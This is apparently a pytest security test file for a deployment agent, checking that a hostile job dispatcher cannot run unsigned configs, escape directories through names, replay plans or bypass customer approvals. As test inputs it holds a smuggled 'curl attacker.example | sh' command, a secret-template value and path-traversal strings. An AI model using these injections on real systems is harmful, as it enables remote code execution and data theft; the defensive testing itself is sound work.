"""The IMS is the attacker: it may send any job, but has neither the vendor's key nor access to the agent's machine.

What it can't do is shown here; docs/decisions/0019 says what it still can.
"""

from collections.abc import Awaitable
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from customer import Customer

from agent.failure import JobFailedError
from agent.install.approvals import LocalApproval
from agent.install.executor import InstallExecutor
from agent.install.registries import UnsafeRepositoryError
from agent.ledger.verify import entries
from agent.oci.signature import sign
from agent.oci.vendor_key import VendorKey
from agent.trust.claims import claims_of
from api.contract.agents import DeployJob, JobResult, PlanResult, RegistryAccess, SyncJob, SyncResult
from api.contract.base import Failure
from api.contract.components import HelmChartConfig, HelmRepository, PathSource, Source, TerraformModuleConfig

pytestmark = pytest.mark.anyio

NETWORK = """
variable "name" { default = "a" }
resource "terraform_data" "net" {
  input            = var.name
  triggers_replace = [var.name]
  provisioner "local-exec" { command = "touch ${path.module}/ran-${var.name}" }
}
output "name" { value = terraform_data.net.output }
"""
OTHER = 'output "other" { value = "other" }\n'
BUILT = TerraformModuleConfig(source=Source(path=PathSource(path="unused")), variables={"name": "{{ inputs.name }}"})


@pytest.fixture
async def victim(account: Customer) -> Customer:
    """A customer who has `network` in their registry, built by the vendor with the config BUILT."""
    await account.build("network", NETWORK)
    await account.sync("network")
    registry = await account.site.registry.client()
    claims = claims_of("shop", "network", BUILT)
    await sign(registry, "shop/network", account.digests["network"], account.key, "shop/network", claims)
    return account


def job(victim: Customer, kind: str = "plan", **changes: Any) -> DeployJob:
    """The job of an honest IMS, with the attacker's changes."""
    honest = victim.job(kind, "network", inputs={"name": "a"}, plan="job_plan" if kind in ("apply", "destroy") else None)
    return honest.model_copy(update={"config": BUILT, **changes})


async def attack(victim: Customer, job: DeployJob, job_id: str = "job_plan") -> JobResult:
    return await InstallExecutor(victim.site).run(job, victim.context(job_id))


async def refused(work: Awaitable[JobResult], code: str) -> Failure:
    with pytest.raises(JobFailedError) as caught:
        await work
    assert caught.value.failure.code == code
    return caught.value.failure


def nothing_ran(victim: Customer) -> bool:
    events = [each.event for each in entries(victim.site.ledger.files())]
    return not {"plan.saved", "plan.begun"} & set(events)


async def test_the_honest_job_runs(victim: Customer) -> None:
    assert (await attack(victim, job(victim))).kind == "plan"
    assert (await attack(victim, job(victim, "apply"), "job_apply")).kind == "apply"


@pytest.mark.parametrize(
    "config",
    [
        BUILT.model_copy(update={"variables": {"name": "b; curl attacker.example | sh"}}),
        BUILT.model_copy(update={"variables": {"name": "{{ secrets.license }}"}}),
        BUILT.model_copy(update={"variables": {}}),
        BUILT.model_copy(update={"source": Source(path=PathSource(path="elsewhere"))}),
        HelmChartConfig(helm_repo=HelmRepository(repo_url="https://attacker.example", chart="x", version="1")),
    ],
    ids=["variable", "secret", "no variables", "source", "kind"],
)
async def test_a_config_that_was_not_built_does_not_run(victim: Customer, config: Any) -> None:
    await refused(attack(victim, job(victim, config=config)), "signature_refused")
    assert nothing_ran(victim)


async def test_an_artifact_of_another_component_or_app_does_not_run(victim: Customer) -> None:
    await victim.build("other", OTHER)
    await victim.sync("other")
    other = victim.digests["other"]
    registry = await victim.site.registry.client()
    await sign(registry, "shop/other", other, victim.key, "shop/other", claims_of("shop", "other", BUILT))
    await sign(registry, "shop/other", other, victim.key, "shop/other", claims_of("blog", "network", BUILT))
    await refused(attack(victim, job(victim, digest=other, repository="shop/other")), "signature_refused")
    assert nothing_ran(victim)


async def test_what_the_vendors_key_has_not_signed_is_neither_copied_nor_run(victim: Customer, tmp_path: Path) -> None:
    attackers = VendorKey.load_or_create(tmp_path / "attackers.key")
    own = await victim.build("network", OTHER, attackers)
    await refused(victim.sync("network"), "signature_refused")
    await refused(attack(victim, job(victim, digest=own)), "signature_refused")
    unsigned = "sha256:" + "f" * 64
    await refused(attack(victim, job(victim, digest=unsigned)), "signature_refused")
    assert nothing_ran(victim)


async def test_another_repository_or_install_does_not_help(victim: Customer) -> None:
    await refused(attack(victim, job(victim, repository="attacker/network")), "signature_refused")
    await refused(attack(victim, job(victim, install_id="ins_2")), "wrong_agent")
    assert nothing_ran(victim)


@pytest.mark.parametrize(
    "name", ["x/../../payroll", "shop/../network", "..", "/payroll", "shop//network", "shop/net?x=", "a%2e"]
)
async def test_a_repository_does_not_lead_out_of_the_customers_prefix(victim: Customer, name: str) -> None:
    """In a URL, `..` would."""
    await refused(attack(victim, job(victim, repository=name)), "unsafe_name")
    ticket = victim.vendor.ticket("ticket-x", digests=None)
    access = RegistryAccess(url=victim.vendor.url, repository=name, username=ticket.username, password=ticket.password)
    brings = SyncJob(deploy_id="dep_1", component="network", digest=victim.digests["network"], registry=access)
    await refused(InstallExecutor(victim.site).run(brings, victim.context("job_sync")), "unsafe_name")
    with pytest.raises(UnsafeRepositoryError):
        await victim.site.registry.make_ready(name)
    assert nothing_ran(victim)


async def test_a_name_does_not_lead_out_of_the_agents_home(victim: Customer) -> None:
    await refused(attack(victim, job(victim, component="../../etc")), "unsafe_name")
    await attack(victim, job(victim))
    await refused(attack(victim, job(victim, "apply", plan_job_id="../../job_plan"), "job_apply"), "unsafe_name")


async def test_an_apply_uses_the_config_that_was_checked_when_it_was_planned(victim: Customer) -> None:
    await attack(victim, job(victim))
    other = BUILT.model_copy(update={"variables": {"name": "b"}})
    await attack(victim, job(victim, "apply", config=other, repository="attacker/network", inputs={"name": "b"}), "job_apply")
    assert victim.site.components.outputs("network") == {"name": "a"}


async def test_an_apply_of_another_plan_than_the_saved_one_is_refused(victim: Customer) -> None:
    await refused(attack(victim, job(victim, "apply"), "job_apply"), "plan_missing")
    await attack(victim, job(victim))
    await refused(attack(victim, job(victim, "destroy"), "job_destroy"), "plan_changed")
    await refused(attack(victim, job(victim, "apply", plan_digest="sha256:" + "0" * 64), "job_apply"), "plan_changed")
    await refused(attack(victim, job(victim, "apply", component="web"), "job_apply"), "plan_missing")


@pytest.mark.parametrize("by", ["the agent's own setting", "a rule"])
async def test_where_the_customer_decides_no_change_of_the_approval_mode_helps(victim: Customer, by: str) -> None:
    if by == "a rule":
        (victim.site.approvals.home / "policy.yaml").write_text("version: 1\nrules: [{name: all, effect: ask}]\n")
    else:
        victim.site.approvals.choose("customer")
    await attack(victim, job(victim))
    for approval in ("auto", "vendor"):
        await refused(attack(victim, job(victim, "apply", approval=approval), "job_apply"), "approval_missing")


async def test_an_approval_is_not_good_for_a_plan_that_took_the_place_of_the_approved_one(victim: Customer) -> None:
    victim.site.approvals.choose("customer")
    planned = await attack(victim, job(victim))
    assert isinstance(planned, PlanResult)
    victim.site.approvals.add(
        LocalApproval(
            plan_job_id="job_plan",
            plan_digest=planned.plan_digest,
            component="network",
            deploy_id="dep_1",
            approved_by="ann",
            approved_at=datetime.now(UTC),
        )
    )
    # The same job id again, with other inputs: the plan that was approved is gone, and the new one wasn't approved.
    await attack(victim, job(victim, inputs={"name": "b"}))
    await refused(attack(victim, job(victim, "apply"), "job_apply"), "approval_missing")


async def test_a_replayed_apply_runs_nothing_twice(victim: Customer) -> None:
    await attack(victim, job(victim))
    await attack(victim, job(victim, "apply"), "job_apply")
    made = [line for line in victim.log if "Creation complete" in line]
    assert len(made) == 1
    await attack(victim, job(victim, "apply"), "job_replayed")
    assert [line for line in victim.log if "Creation complete" in line] == made


async def test_an_old_release_that_the_customer_has_revoked_is_neither_copied_nor_run(victim: Customer) -> None:
    policy = f"version: 1\nrevoked: ['{victim.digests['network']}']\n"
    (victim.site.approvals.home / "policy.yaml").write_text(policy)
    await refused(victim.sync("network"), "refused_by_policy")
    await refused(attack(victim, job(victim)), "refused_by_policy")
    assert nothing_ran(victim)


async def test_what_inputs_of_the_attackers_would_do_is_still_judged_by_the_customers_rules(victim: Customer) -> None:
    await attack(victim, job(victim))
    await attack(victim, job(victim, "apply"), "job_apply")
    rules = "version: 1\nrules: [{name: keep it, types: ['terraform_*'], actions: [delete, replace]}]\n"
    (victim.site.approvals.home / "policy.yaml").write_text(rules)
    await refused(attack(victim, job(victim, inputs={"name": "b"}), "job_2"), "refused_by_policy")
    await refused(attack(victim, job(victim, "plan_destroy"), "job_3"), "refused_by_policy")


async def test_an_agent_that_knows_no_name_of_its_app_runs_nothing(victim: Customer) -> None:
    nameless = replace(victim, site=replace(victim.site, app_name=""))
    await refused(attack(nameless, job(victim)), "signature_refused")


async def test_what_the_vendor_builds_again_with_another_config_comes_along_with_the_next_sync(victim: Customer) -> None:
    vendor = victim.vendor.client()
    other = BUILT.model_copy(update={"variables": {"name": "c"}})
    digest = victim.digests["network"]
    assert await sign(vendor, "shop/network", digest, victim.key, "shop/network", claims_of("shop", "network", other))
    await refused(attack(victim, job(victim, config=other)), "signature_refused")
    assert isinstance(await victim.sync("network"), SyncResult)
    assert (await attack(victim, job(victim, config=other))).kind == "plan"
